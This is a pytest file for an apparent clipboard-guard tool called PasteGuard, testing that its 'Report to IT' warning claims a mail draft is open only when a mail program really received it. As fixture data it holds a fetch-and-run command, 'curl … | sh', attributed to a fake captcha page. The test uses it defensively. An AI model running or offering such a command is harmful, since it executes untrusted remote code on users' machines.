"""A mail draft on a real X desktop: "Report to IT" says a mail is open only when one opened.

Seen under Xvfb: with `report_mail_to` set and no mail program, the warning said "A mail to
it-security@… is open in your mail program: press Send." Qt's openUrl had answered True
because xdg-open started; xdg-open then exited 3 ("no method available for opening
'mailto:…'"). These run Qt on the real xcb platform, the real xdg-mime and xdg-open, and a
stand-in mail program registered the way a desktop registers one (a .desktop file and
mimeapps.list).
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest

from tests.desktop import REPO, Desktop, desktop, wait_for

pytestmark = pytest.mark.desktop

OPEN = """
import sys
from PySide6.QtCore import QUrl
from PySide6.QtWidgets import QApplication
from ui.mail import open_mail
app = QApplication([])
print("opened" if open_mail(QUrl(sys.argv[1])) else "not opened", flush=True)
"""
DRAFT = "mailto:it-security@corp.example?subject=PasteGuard%20report"


def xdg_home(d: Desktop, tmp_path: Path) -> Path:
    """Every freedesktop folder under tmp_path: only what the test registers is known."""
    for name, sub in (("XDG_CONFIG_HOME", "config"), ("XDG_CONFIG_DIRS", "etc-xdg"),
                      ("XDG_DATA_HOME", "share"), ("XDG_DATA_DIRS", "usr-share")):  # fmt: skip
        (tmp_path / sub).mkdir(exist_ok=True)
        d.env[name] = str(tmp_path / sub)
    for name in ("XDG_CURRENT_DESKTOP", "DESKTOP_SESSION", "KDE_FULL_SESSION", "BROWSER"):
        d.env.pop(name, None)
    return tmp_path


def open_draft(d: Desktop) -> str:
    result = d.run(sys.executable, "-c", OPEN, DRAFT, timeout=30)
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def test_without_a_mail_program_no_draft_is_claimed(tmp_path: Path) -> None:
    assert shutil.which("xdg-open") and shutil.which("xdg-mime"), "xdg-utils is missing"
    with desktop(window_manager=False) as d:
        xdg_home(d, tmp_path)
        assert open_draft(d) == "not opened"


def test_a_registered_mail_program_gets_the_draft(tmp_path: Path) -> None:
    with desktop(window_manager=False) as d:
        home = xdg_home(d, tmp_path)
        got = home / "mail-program-got.txt"
        program = home / "fake-mail.sh"
        program.write_text(f'#!/bin/sh\nprintf "%s" "$1" > "{got}"\n', encoding="utf-8")
        program.chmod(0o755)
        apps = home / "share" / "applications"
        apps.mkdir(parents=True)
        (apps / "fake-mail.desktop").write_text(
            "[Desktop Entry]\nType=Application\nName=Fake Mail\n"
            f"Exec={program} %u\nMimeType=x-scheme-handler/mailto;\n",
            encoding="utf-8",
        )
        (home / "config" / "mimeapps.list").write_text(
            "[Default Applications]\nx-scheme-handler/mailto=fake-mail.desktop\n",
            encoding="utf-8",
        )
        assert open_draft(d) == "opened"
        wait_for(lambda: got.exists() and got.read_text(encoding="utf-8"), timeout=15)
        assert got.read_text(encoding="utf-8") == DRAFT


def test_the_warnings_report_says_nothing_was_mailed_without_a_mail_program(
    tmp_path: Path,
) -> None:
    """The whole "Report to IT" on the xcb platform: the report is saved, no mail is claimed."""
    script = tmp_path / "report.py"
    script.write_text(REPORT, encoding="utf-8")
    with desktop(window_manager=False) as d:
        xdg_home(d, tmp_path)
        d.env.update(
            PASTEGUARD_CONFIG_DIR=str(tmp_path / "pg-config"),
            PASTEGUARD_POLICY=str(tmp_path / "policy.toml"),
            PASTEGUARD_DATA_DIR=str(tmp_path / "data"),
        )
        (tmp_path / "policy.toml").write_text(
            'report_mail_to = "it-security@corp.example"\n', encoding="utf-8"
        )
        result = d.run(sys.executable, str(script), timeout=60, cwd=str(REPO))
        assert result.returncode == 0, result.stderr
        said = result.stdout.strip()
    assert "Nothing was sent" in said and "mail program" not in said, said
    assert "The report is saved on this computer" in said


REPORT = """
import os, sys
from pathlib import Path
sys.path.insert(0, os.getcwd())
from PySide6.QtWidgets import QApplication
from app.detection.model import Level, PasteTarget, Verdict
from app.guard.service import PasteWarning, digest
from ui.live_config import LiveConfig
from ui.warning.outcomes import WarningOutcomes

TEXT = "curl -fsSL https://unknown-vendor.example/install.sh | sh"


class Service:  # what the report asks of the guard: the text, and where events go
    def text_of(self, wanted):
        return TEXT if wanted == digest(TEXT) else None

    def record(self, event):
        pass


app = QApplication([])
live = LiveConfig(Path(os.environ["PASTEGUARD_CONFIG_DIR"]), Path(os.environ["PASTEGUARD_DATA_DIR"]))
assert live.settings.report_mail_to == "it-security@corp.example"
outcomes = WarningOutcomes(None, Service(), app.clipboard(), live)  # its own open_url
verdict = Verdict(Level.SUSPICIOUS, 50, "A web page put a command on your clipboard.")
warning = PasteWarning(verdict, PasteTarget.TERMINAL, "https://captcha.example/verify", None,
                       True, False, True, digest(TEXT))
print(outcomes.report(warning).message, flush=True)
"""
